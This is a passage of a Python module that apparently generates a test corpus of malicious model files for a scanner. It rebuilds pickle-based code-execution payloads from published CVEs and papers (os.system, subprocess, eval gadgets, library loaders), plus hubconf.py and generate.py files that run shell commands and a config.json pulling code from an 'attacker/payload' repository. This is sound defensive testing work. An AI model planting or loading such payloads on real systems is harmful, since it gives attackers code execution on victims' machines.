    header = b"\x28\xb5\x2f\xfd" + bytes([0x60]) + struct.pack("<H", len(payload) - 256 if len(payload) >= 256 else 0)
    if len(payload) < 256:
        header = b"\x28\xb5\x2f\xfd" + bytes([0x20]) + bytes([len(payload)])
    block = struct.pack("<I", 1 | (len(payload) << 3))[:3]
    return header + block + payload


@advisory
def hs_pandas_read_pickle_zstd() -> list[Advisory]:
    # arXiv:2508.19774 "model loading paths" (2025-08): pandas.read_pickle infers compression from the suffix,
    # including Zstandard (.zst) which few scanners decompress.
    data = _zstd_raw(call_pickle("os", "system", SHELL_CMD))
    return _adv(
        "hs_pandas_read_pickle_zst",
        "arXiv:2508.19774 loading paths (pandas .zst)",
        "2025-08",
        data,
        "os.system",
        "Pickle inside a Zstandard frame (pandas.read_pickle('x.pkl.zst')).",
        component="fs",
        filename="model.pkl.zst",
    )


@advisory
def hs_pandas_read_pickle_zip() -> list[Advisory]:
    # Same paper: pandas.read_pickle('x.pkl.zip') unpickles the single member of a zip, whatever its name.
    data = build_zip([ZEntry("payload.bin", call_pickle("os", "system", SHELL_CMD))])
    return _adv(
        "hs_pandas_read_pickle_zip",
        "arXiv:2508.19774 loading paths (pandas .zip)",
        "2025-08",
        data,
        "os.system",
        "Pickle as the only member of a zip, under a neutral name.",
        component="fs",
        filename="model.pkl.zip",
    )


@advisory
def paddle_pdparams() -> list[Advisory]:
    # CVE-2024-0521 (2024-01, PaddlePaddle) class: paddle.load of .pdparams / .pdopt is pickle.load.
    return _adv(
        "cve_2024_0521_paddle_pdparams",
        "CVE-2024-0521 class (paddle.load)",
        "2024-01",
        call_pickle("os", "system", SHELL_CMD, proto=2),
        "os.system",
        "A Paddle parameter file is a protocol-2 pickle.",
        filename="model.pdparams",
    )


@advisory
def cve_2024_39705_nltk_data_load() -> list[Advisory]:
    # CVE-2024-39705 (2024-06, NLTK): nltk.data.load of a .pickle resource unpickles it; reached from a
    # model pickle it is a nested deserialiser of a local/downloaded file.
    out = _adv(
        "cve_2024_39705_nltk_data_load",
        "CVE-2024-39705",
        "2024-06",
        call_pickle("nltk.data", "load", "file:/tmp/mlvet_marker.pickle"),
        "nltk.data",
        "nltk.data.load('*.pickle') == pickle.load.",
    )
    a = Asm(4)
    a.glob("nltk.downloader", "Downloader.download").mark()
    a.glob("nltk.downloader", "Downloader").val("http://127.0.0.1:9/index.xml").tuple1().reduce()
    a.val("punkt").tuple_().reduce()
    out += _adv(
        "cve_2024_39705_nltk_downloader",
        "CVE-2024-39705",
        "2024-06",
        a.done(),
        "nltk.downloader",
        "Downloader(server).download(pkg) fetches and unzips packages (the CVE's delivery path).",
    )
    return out


@advisory
def cve_2025_9959_smolagents_executor() -> list[Advisory]:
    # CVE-2025-9959 (2025-09, smolagents): local_python_executor's sandbox escapes; evaluate_python_code runs
    # agent code. From a pickle it is a Python interpreter entry point.
    return _adv(
        "cve_2025_9959_smolagents_evaluate",
        "CVE-2025-9959",
        "2025-09",
        call_pickle("smolagents.local_python_executor", "evaluate_python_code", PY_SRC),
        "smolagents",
        "Agent code interpreter called with attacker source.",
    )


@advisory
def cython_inline() -> list[Advisory]:
    # modelaudit / fickling "compile" class (2025): Cython.Build.Inline.cython_inline compiles and runs code.
    return _adv(
        "cython_inline_compile_run",
        "modelaudit suspicious symbols (compile)",
        "2025-06",
        call_pickle("Cython.Build.Inline", "cython_inline", PY_SRC),
        "Cython",
        "Compiles the source to a C extension, imports and runs it.",
    )


@advisory
def cffi_backend_load_library() -> list[Advisory]:
    # modelaudit suspicious symbols "ffi.dlopen" (2025): _cffi_backend.load_library is cffi's dlopen.
    return _adv(
        "cffi_backend_load_library",
        "modelaudit suspicious symbols (ffi.dlopen)",
        "2025-06",
        call_pickle("_cffi_backend", "load_library", "/tmp/mlvet_marker.so"),
        "_cffi_backend",
        "Private cffi module: loads a shared library.",
    )


@advisory
def typing_get_type_hints_eval() -> list[Advisory]:
    # arXiv:2508.19774 stdlib eval gadgets (2025-08): typing.get_type_hints evaluates string annotations of
    # any object; the object is an allow-listed SimpleNamespace carrying __annotations__.
    a = Asm(4)
    a.glob("typing", "get_type_hints").mark()
    a.glob("types", "SimpleNamespace").empty_tuple().reduce().val({"__annotations__": {"a": PY_SRC}}).build()
    a.tuple_().reduce()
    return _adv(
        "hs_typing_get_type_hints_eval",
        "arXiv:2508.19774 stdlib eval gadgets",
        "2025-08",
        a.done(),
        "typing",
        "get_type_hints(obj) eval()s obj.__annotations__ strings.",
        live="pickle",
    )


@advisory
def builtins_exit_dos() -> list[Advisory]:
    # picklescan malicious9 class (sys.exit) spelled through the site builtin: builtins.exit(3) raises
    # SystemExit in the loader.
    return _adv(
        "builtins_exit_dos",
        "picklescan malicious9 class (exit)",
        "2023-03",
        call_pickle("builtins", "exit", 3),
        "builtins.exit",
        "site's exit() builtin terminates the loading process.",
    )


@advisory
def fastai_load_learner() -> list[Advisory]:
    # fastai load_learner (documented: "uses pickle"; JFrog ML formats survey 2024): torch.load of a file.
    return _adv(
        "fastai_load_learner",
        "JFrog ML formats survey (fastai)",
        "2024-03",
        call_pickle("fastai.learner", "load_learner", "/tmp/mlvet_marker.pkl"),
        "fastai",
        "Nested torch.load(weights_only=False) of a local export.pkl.",
    )


@advisory
def transformers_push_to_hub() -> list[Advisory]:
    # PickleBall allow-list audit (2025-10): methods reached under transformers' class allow-glob that write
    # or upload (save_pretrained writes a folder; push_to_hub uploads to the network).
    out: list[Advisory] = []
    for meth in ("save_pretrained", "push_to_hub"):
        a = Asm(4)
        a.glob("transformers.models.bert.configuration_bert", f"BertConfig.{meth}").mark()
        a.glob("transformers.models.bert.configuration_bert", "BertConfig").empty_tuple().reduce()
        a.val("/tmp/mlvet_repo").tuple_().reduce()
        out += _adv(
            f"pickleball_transformers_{meth}",
            "PickleBall allow-list audit (transformers methods)",
            "2025-10",
            a.done(),
            f"BertConfig.{meth}",
            f"BertConfig.{meth} under the transformers class allow-glob.",
        )
    return out


@advisory
def torch_rebuild_from_type_forwarder() -> list[Advisory]:
    # PickleBall (CCS 2025) "allowed callables that call their arguments": torch._tensor._rebuild_from_type_v2
    # (func, type, args, state) calls func(*args); the payload callable is only an argument.
    a = Asm(2)
    a.glob("torch._tensor", "_rebuild_from_type_v2").mark()
    a.glob("invoke", "run").glob("torch", "Tensor").val((SHELL_CMD,)).empty_dict().tuple_().reduce()
    return _adv(
        "pickleball_rebuild_from_type_forwarder",
        "PickleBall (CCS 2025) call forwarders",
        "2025-10",
        a.done(),
        "invoke.run",
        "A safe-tier rebuild helper calls an argument: invoke.run(cmd) runs a shell command.",
    )


@advisory
def hubconf_and_custom_generate() -> list[Advisory]:
    # JFrog "hubconf.py" torch.hub write-up (2024) and transformers custom_generate (2025-07, trust_remote_code):
    # Python files shipped next to the model that the loader imports.
    out = _adv(
        "torch_hub_hubconf_py",
        "torch.hub hubconf.py (JFrog 2024)",
        "2024-03",
        b"dependencies = ['torch']\nimport os\nos.system('" + SHELL_CMD.encode() + b"')\n",
        None,
        "torch.hub.load imports hubconf.py from the repository.",
        component="templates",
        filename="hubconf.py",
    )
    out += _adv(
        "hf_custom_generate_py",
        "transformers custom_generate (2025-07)",
        "2025-07",
        b"import subprocess\nsubprocess.run(['sh', '-c', '" + SHELL_CMD.encode() + b"'])\n"
        b"def generate(model, *args, **kwargs):\n    return model.generate(*args, **kwargs)\n",
        None,
        "custom_generate/generate.py is imported by model.generate(custom_generate=repo).",
        component="templates",
        filename="generate.py",
    )
    return out


@advisory
def hf_auto_map_cross_repo() -> list[Advisory]:
    # Hugging Face auto_map "repo--module.Class" (JFrog / HiddenLayer 2024): config.json pulls code from
    # *another* repository when trust_remote_code is set.
    cfg = {"model_type": "bert", "auto_map": {"AutoModel": "attacker/payload--modeling.Evil"}}
    return _adv(
        "hf_auto_map_cross_repo",
        "HF auto_map cross-repo code (2024)",
        "2024-05",
        json.dumps(cfg).encode(),
        None,
        "auto_map naming code in a different repository.",
        component="templates",
        filename="config.json",
    )


# =============================================================================================
# Public API
# =============================================================================================


def build_all() -> list[Advisory]:
    """Every rebuilt advisory sample in a stable order (unique names, building executes nothing)."""
    out: list[Advisory] = []
    for fn in _REGISTRY:
        try:
            out.extend(fn())
        except ImportError:  # a library that writes this format (onnx, h5py) is not installed
            continue
    names = [a.name for a in out]
    dup = {n for n in names if names.count(n) > 1}
    if dup:
        raise AssertionError(f"duplicate advisory sample names: {sorted(dup)}")
    return out


def write_all(dest: Path) -> list[Path]:
    """Write each sample as ``dest/<name>/<filename>``."""
    paths = []
    for a in build_all():
        d = Path(dest) / a.name
        d.mkdir(parents=True, exist_ok=True)
        p = d / a.filename
        p.write_bytes(a.data)
        paths.append(p)
    return paths


if __name__ == "__main__":  # pragma: no cover - manual use
    for path in write_all(Path(sys.argv[1] if len(sys.argv) > 1 else "advisory_corpus")):
        print(path)
